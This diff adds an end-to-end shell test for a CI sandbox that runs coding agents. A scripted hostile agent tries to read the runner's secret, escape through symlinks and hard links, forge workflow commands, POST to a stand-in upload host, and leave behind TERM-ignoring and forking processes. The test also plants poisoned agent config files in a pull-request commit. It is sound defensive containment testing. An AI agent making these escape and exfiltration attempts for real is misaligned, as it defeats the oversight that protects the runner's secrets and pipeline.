@@ -1,0 +1,294 @@
+#!/usr/bin/env bash
+# `agentic-job run` end to end, inside a booted test host (tests/host/run), after the project's own
+# `sandbox setup` (egress proxy on, the fake internet behind it). A real git repository (base branch and a
+# pull-request commit that changes a trusted path), a scripted hostile agent (a test program, no model)
+# that does its job and tries to escape: every attempt fails or is refused by name, exactly the legitimate
+# outputs are exported, nothing of the sandbox user survives. Then the exit statuses: usage, a failing
+# agent, a timeout, a cancellation mid-agent, and a second run that works after them.
+#
+# The host is thrown away after the run: this suite installs the project and changes the host for good.
+#
+# usage: bash tests/host/run --release trixie|bookworm tests/e2e/run.sh
+set -u
+here=$(cd "$(dirname "$0")" && pwd)
+# shellcheck source=tests/integration/lib.sh
+. "$here/../integration/lib.sh"
+
+require_test_host tests/e2e/run.sh
+build=${AJH_BUILD:-/build}
+CLIENT=/usr/local/bin/agentic-job
+RUNNER=runner
+SANDBOX=runner-sandbox
+REPO=/srv/ajt-repo
+AGENT=/opt/ajt/agent.sh
+work=$(mktemp -d /tmp/ajt-run.XXXXXX)
+chmod 0755 "$work"
+on_exit "rm -rf $work"
+
+echo "# ${AJH_RELEASE:-unknown release}: $(systemctl --version | head -n1)"
+ninja -C "$build" install >"$work/install.log" 2>&1 || { cat "$work/install.log"; echo "Bail out! install"; exit 1; }
+useradd --create-home --shell /bin/bash "$RUNNER"
+printf '%s ALL=(ALL) NOPASSWD: ALL\n' "$RUNNER" >/etc/sudoers.d/runner
+chmod 0440 /etc/sudoers.d/runner
+RUNNER_HOME=$(getent passwd "$RUNNER" | cut -d: -f6)
+rm -f /etc/resolv.conf
+printf 'nameserver 203.0.113.53\noptions timeout:1 attempts:1\n' >/etc/resolv.conf
+cat >"$work/config.toml" <<EOT
+[sandbox]
+user = "$SANDBOX"
+runner-user = "$RUNNER"
+groups = []
+
+[sandbox.check]
+control-url = "https://www.fake.test/"
+
+[egress]
+proxy = true
+
+[run]
+env = ["AJT_NAMED"]
+max-file-bytes = 1048576
+EOT
+chmod 0644 "$work/config.toml"
+if ! "$CLIENT" sandbox setup --config "$work/config.toml" </dev/null >"$work/setup.out" 2>&1; then
+        sed 's/^/# setup: /' "$work/setup.out"
+        echo "Bail out! setup failed"
+        exit 1
+fi
+pass "sandbox setup"
+SANDBOX_HOME=$(getent passwd "$SANDBOX" | cut -d: -f6)
+SANDBOX_UID=$(id -u "$SANDBOX")
+
+# What the agent must not reach: a secret in the runner's home and the runner's own checkout.
+RUNNER_TEMP=$RUNNER_HOME/temp
+install -d -m 0700 -o "$RUNNER" -g "$RUNNER" "$RUNNER_TEMP" "$RUNNER_HOME/checkout"
+echo "runner-secret-$RANDOM$RANDOM" >"$RUNNER_HOME/secret"
+echo original >"$RUNNER_HOME/checkout/file"
+chown -R "$RUNNER:$RUNNER" "$RUNNER_HOME/secret" "$RUNNER_HOME/checkout"
+
+# ---------------------------------------------------------------------------------------------------------
+# The repository: main with trusted startup configuration; a pull-request commit that changes it.
+git_q() { git -c init.defaultBranch=main -c user.name=t -c user.email=t@t.test "$@" >/dev/null 2>&1; }
+install -d -m 0755 "$REPO"
+git_q -C "$REPO" init
+printf 'base settings\n' >/dev/null
+mkdir -p "$REPO/.claude" "$REPO/src"
+echo '{"trusted":"base"}' >"$REPO/.claude/settings.json"
+echo "hello" >"$REPO/README"
+for i in $(seq 1 20); do echo "line $i" >"$REPO/src/f$i.txt"; done
+git_q -C "$REPO" add -A
+git_q -C "$REPO" commit -m base
+BASE_COMMIT=$(git -C "$REPO" rev-parse HEAD)
+git_q -C "$REPO" checkout -b pr
+echo '{"trusted":"pull-request","hooks":"evil"}' >"$REPO/.claude/settings.json"
+mkdir -p "$REPO/.codex"
+echo 'evil = true' >"$REPO/.codex/config.toml"
+echo "changed by the pr" >>"$REPO/README"
+git_q -C "$REPO" add -A
+git_q -C "$REPO" commit -m pr
+PR_COMMIT=$(git -C "$REPO" rev-parse HEAD)
+git_q -C "$REPO" checkout main
+chmod -R a+rX "$REPO"
+expect_eq "the test repository has two commits" 2 "$(git -C "$REPO" rev-list --all | wc -l)"
+
+# ---------------------------------------------------------------------------------------------------------
+# The hostile agent: does its job, then tries everything; each attempt's outcome is written to
+# out/attempts.txt (one of the legitimate outputs), so the test reads what happened inside.
+install -d -m 0755 /opt/ajt
+cat >"$AGENT" <<'EOT'
+#!/bin/bash
+mode=${1:-hostile}
+exec 2>&1
+out=out
+mkdir -p "$out"
+note() { echo "$*" >>"$out/attempts.txt"; }
+case $mode in
+sleep)
+        echo "agent: sleeping"
+        sleep 600
+        exit 0
+        ;;
+fail)
+        echo "agent: failing"
+        exit 7
+        ;;
+esac
+# The job.
+echo "reviewed" >>README
+echo "# review of $(git rev-parse HEAD 2>/dev/null || echo unknown)" >"$out/review.md"
+cp .claude/settings.json "$out/trusted-seen.json"
+cat "$AGENTIC_JOB_TASK" >"$out/task-seen.txt"
+env | sort >"$out/env.txt"
+pwd >"$out/pwd.txt"
+# Workflow commands in its output.
+echo "::warning::pwned by the agent"
+echo "  ::add-mask::x"
+echo "text ##[error]forged"
+# Escapes.
+if cat "$RUNNER_SECRET_PATH" >/dev/null 2>&1; then note "read-runner-secret: WORKED"; else note "read-runner-secret: refused"; fi
+if echo pwned >>"$RUNNER_CHECKOUT/file" 2>/dev/null; then note "write-runner-checkout: WORKED"; else note "write-runner-checkout: refused"; fi
+ln -s "$RUNNER_SECRET_PATH" "$out/link.txt"
+ln -s / "$out/escape"
+mkfifo "$out/fifo"
+mkdir -p "$out/dir"
+truncate -s 10G "$out/sparse"
+echo "outside" >"$HOME/../outside.txt"
+ln "$HOME/../outside.txt" "$out/hard" 2>/dev/null || note "hard-link: could not make"
+# A POST the policy refuses.
+if curl -s -o /dev/null -w '%{http_code}' -m 5 -X POST -d x https://upload.fake.test/p | grep -q 403; then
+        note "post: 403"
+else
+        note "post: not 403"
+fi
+# A daemon that ignores TERM, in a session of its own, and a process that keeps forking.
+setsid bash -c 'trap "" TERM HUP; exec -a ajt-daemon sleep 100000' </dev/null >/dev/null 2>&1 &
+bash -c 'while :; do (sleep 1000 &); sleep 0.01; done' </dev/null >/dev/null 2>&1 &
+echo "agent: done"
+exit 0
+EOT
+chmod 0755 "$AGENT"
+echo "Review the change." >"$work/task.md"
+chmod 0644 "$work/task.md"
+
+# run_as_runner OUT ARGS...: agentic-job run as the runner, with a job's environment (its command files
+# among it, which must not reach the agent); $work/run.out, $work/run.err, $status.
+run_as_runner() {
+        runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
+                GITHUB_ENV="$RUNNER_TEMP/env" GITHUB_OUTPUT="$RUNNER_TEMP/output" \
+                GITHUB_STEP_SUMMARY="$RUNNER_TEMP/step-summary" AJT_NAMED=named-value AJT_OTHER=other-value \
+                "$CLIENT" run "$@" </dev/null >"$work/run.out" 2>"$work/run.err"
+        status=$?
+}
+show() { sed 's/^/# | /' "$work/run.out" "$work/run.err"; }
+sandbox_processes() { pgrep -u "$SANDBOX_UID" | wc -l; }
+run_dirs() { find "$SANDBOX_HOME" -maxdepth 1 -name 'agentic-job-run-*' | wc -l; }
+# The agent needs to know where the runner's things are; the paths are not secret.
+AGENT_ENV="RUNNER_SECRET_PATH=$RUNNER_HOME/secret RUNNER_CHECKOUT=$RUNNER_HOME/checkout"
+
+# ---------------------------------------------------------------------------------------------------------
+echo "# the hostile run"
+OUT=$RUNNER_HOME/run1
+OUTPUTS=(--output out/review.md --output out/attempts.txt --output out/trusted-seen.json
+         --output out/task-seen.txt --output out/env.txt --output out/pwd.txt
+         --output out/link.txt --output out/escape/etc/passwd --output out/fifo --output out/dir
+         --output out/sparse --output out/hard --output out/never-written)
+# shellcheck disable=SC2086
+run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$OUT" \
+        "${OUTPUTS[@]}" --patch -- /usr/bin/env $AGENT_ENV "$AGENT"
+show
+expect_eq "the hostile run: exit 3 (the sparse file hit the per-file limit)" 3 "$status"
+expect_eq "nothing of the sandbox user survived" 0 "$(sandbox_processes)"
+expect_eq "the run's directory was disposed of" 0 "$(run_dirs)"
+W=$OUT/workspace/out
+expect_contains "the review is exported" "# review of $PR_COMMIT" "$(cat "$W/review.md" 2>&1)"
+expect_eq "the trusted path came from the base commit" '{"trusted":"base"}' "$(cat "$W/trusted-seen.json" 2>&1)"
+expect_eq "the task reached the agent" "Review the change." "$(cat "$W/task-seen.txt" 2>&1)"
+expect_eq "the agent ran in the clone" "$SANDBOX_HOME" "$(sed 's,/agentic-job-run-[0-9a-f]*/workspace$,,' "$W/pwd.txt")"
+expect_contains "the runner's secret was not read" "read-runner-secret: refused" "$(cat "$W/attempts.txt")"
+expect_contains "the runner's checkout was not written" "write-runner-checkout: refused" "$(cat "$W/attempts.txt")"
+expect_eq "the runner's checkout is unchanged" original "$(cat "$RUNNER_HOME/checkout/file")"
+expect_contains "the POST met the proxy's 403" "post: 403" "$(cat "$W/attempts.txt")"
+env_seen=$(cat "$W/env.txt")
+expect_contains "a named value reached the agent" "AJT_NAMED=named-value" "$env_seen"
+expect_lacks "an unnamed value did not" "AJT_OTHER" "$env_seen"
+expect_lacks "GITHUB_ENV did not" "GITHUB_ENV" "$env_seen"
+expect_lacks "GITHUB_OUTPUT did not" "GITHUB_OUTPUT" "$env_seen"
+expect_lacks "GITHUB_STEP_SUMMARY did not" "GITHUB_STEP_SUMMARY" "$env_seen"
+expect_lacks "RUNNER_TEMP did not" "RUNNER_TEMP" "$env_seen"
+expect_contains "GITHUB_WORKSPACE is the clone" "GITHUB_WORKSPACE=$SANDBOX_HOME/agentic-job-run-" "$env_seen"
+for f in link.txt escape fifo dir sparse hard never-written; do
+        expect_absent "out/$f was not exported" "$W/$f"
+done
+md=$(cat "$OUT/summary.md")
+expect_contains "summary: the link refused" "| out/link.txt | refused |" "$md"
+expect_contains "summary: the link component refused" "| out/escape/etc/passwd | refused |" "$md"
+expect_contains "summary: the FIFO refused" "| out/fifo | refused |" "$md"
+expect_contains "summary: the directory refused" "| out/dir | refused |" "$md"
+expect_contains "summary: the sparse file refused" "| out/sparse | refused |" "$md"
+expect_contains "summary: the hard link refused" "| out/hard | refused |" "$md"
+expect_contains "summary: the missing output named" "| out/never-written | refused | 0 | missing |" "$md"
+expect_contains "summary: the POST denied is listed" "| POST | upload.fake.test |" "$md"
+expect_contains "summary.json: the result" '"result": "limit-hit"' "$(cat "$OUT/summary.json")"
+expect_contains "summary.json: the commit" "\"commit\": \"$PR_COMMIT\"" "$(cat "$OUT/summary.json")"
+expect_contains "summary.json: the base commit" "\"base-commit\": \"$BASE_COMMIT\"" "$(cat "$OUT/summary.json")"
+expect_contains "the step summary got the Markdown" "## agentic-job run: limit-hit (exit 3)" \
+        "$(cat "$RUNNER_TEMP/step-summary" 2>&1)"
+patch=$(cat "$OUT/patch.diff" 2>&1)
+expect_contains "the patch holds the agent's change" "+reviewed" "$patch"
+expect_lacks "the patch leaves the trusted paths out" ".claude/settings.json" "$patch"
+expect_contains "the egress log of the run is saved" "upload.fake.test" "$(cat "$OUT/egress.jsonl" 2>&1)"
+agent_out=$(cat "$work/run.out")
+expect_contains "a workflow command is defused" ": :warning::pwned by the agent" "$agent_out"
+expect_contains "an indented one too" "  : :add-mask::x" "$agent_out"
+expect_contains "##[ anywhere too" "text # #[error]forged" "$agent_out"
+expect_lacks "no workflow command passes" "
+::warning" "
+$agent_out"
+expect_eq "the output directory is the runner's, 0700" "700 $RUNNER" "$(stat -c '%a %U' "$OUT")"
+for phase in prepare clone agent shutdown export egress-log dispose; do
+        expect_contains "phase $phase printed" "agentic-job run: $phase: started" "$(cat "$work/run.err")"
+done
+
+# ---------------------------------------------------------------------------------------------------------
+echo "# refusals before anything is made (status 2)"
+run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$OUT" --patch -- /bin/true
+expect_eq "an output directory that exists: status 2" 2 "$status"
+expect_contains "... named" "--out $OUT: exists already" "$(cat "$work/run.err")"
+run_as_runner --repo "$REPO" --commit "${PR_COMMIT:0:12}" --base main --task "$work/task.md" --out "$RUNNER_HOME/x" --patch -- /bin/true
+expect_eq "a short commit: status 2" 2 "$status"
+expect_absent "... and no output directory" "$RUNNER_HOME/x"
+run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/x" --output ../etc -- /bin/true
+expect_eq "an output through ..: status 2" 2 "$status"
+"$CLIENT" run --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out /tmp/ajt-root --patch -- /bin/true \
+        >/dev/null 2>"$work/root.err"
+expect_eq "as root: status 2" 2 "$?"
+expect_absent "... and nothing made" /tmp/ajt-root
+
+# ---------------------------------------------------------------------------------------------------------
+echo "# a failing agent, a timeout, a cancellation"
+run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-fail" \
+        --patch -- "$AGENT" fail
+expect_eq "a failing agent: status 1" 1 "$status"
+expect_contains "... its status in the summary" "exit status 7" "$(cat "$RUNNER_HOME/run-fail/summary.md")"
+expect_eq "... nothing survived" 0 "$(sandbox_processes)"
+
+run_as_runner --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" --out "$RUNNER_HOME/run-slow" \
+        --timeout 3 --patch -- "$AGENT" sleep
+expect_eq "a timeout: status 124" 124 "$status"
+expect_eq "... nothing survived" 0 "$(sandbox_processes)"
+expect_eq "... disposed of" 0 "$(run_dirs)"
+
+# SIGTERM to run mid-agent: everything reaped, nothing exported, disposed of, status 1.
+runuser -u "$RUNNER" -- env -i PATH=/usr/bin:/bin HOME="$RUNNER_HOME" RUNNER_TEMP="$RUNNER_TEMP" \
+        "$CLIENT" run --repo "$REPO" --commit "$PR_COMMIT" --base main --task "$work/task.md" \
+        --out "$RUNNER_HOME/run-cancel" --output out/attempts.txt --patch -- "$AGENT" sleep \
+        </dev/null >"$work/cancel.out" 2>"$work/cancel.err" &
+runner_pid=$!
+for _ in $(seq 1 200); do
+        grep -q "agent: sleeping" "$work/cancel.out" 2>/dev/null && break
+        sleep 0.1
+done
+client_pid=$(pgrep -P "$runner_pid" -x agentic-job || true)
+expect_contains "the agent was running before the cancel" "agent: sleeping" "$(cat "$work/cancel.out")"
+kill -TERM "${client_pid:-$runner_pid}"
+wait "$runner_pid"
+status=$?
+expect_eq "cancelled: status 1" 1 "$status"
+[ "$status" = 1 ] || sed 's/^/# | /' "$work/cancel.err"
+expect_eq "... nothing survived" 0 "$(sandbox_processes)"
+expect_eq "... disposed of" 0 "$(run_dirs)"
+expect_absent "... nothing exported" "$RUNNER_HOME/run-cancel/workspace"
+expect_absent "... no patch" "$RUNNER_HOME/run-cancel/patch.diff"
+expect_contains "... the summary says so" '"result": "cancelled"' "$(cat "$RUNNER_HOME/run-cancel/summary.json")"
+
+# ---------------------------------------------------------------------------------------------------------
+echo "# a second run afterwards works, by ref"
+run_as_runner --repo "$REPO" --ref pr --base main --task "$work/task.md" --out "$RUNNER_HOME/run-ok" \
+        --output out/review.md -- /usr/bin/env $AGENT_ENV "$AGENT"
+expect_eq "a clean run: status 0" 0 "$status" || show
+[ "$status" = 0 ] || show
+expect_contains "... the ref resolved to the commit" "# review of $PR_COMMIT" \
+        "$(cat "$RUNNER_HOME/run-ok/workspace/out/review.md" 2>&1)"
+expect_eq "... nothing survived" 0 "$(sandbox_processes)"
+
+finish
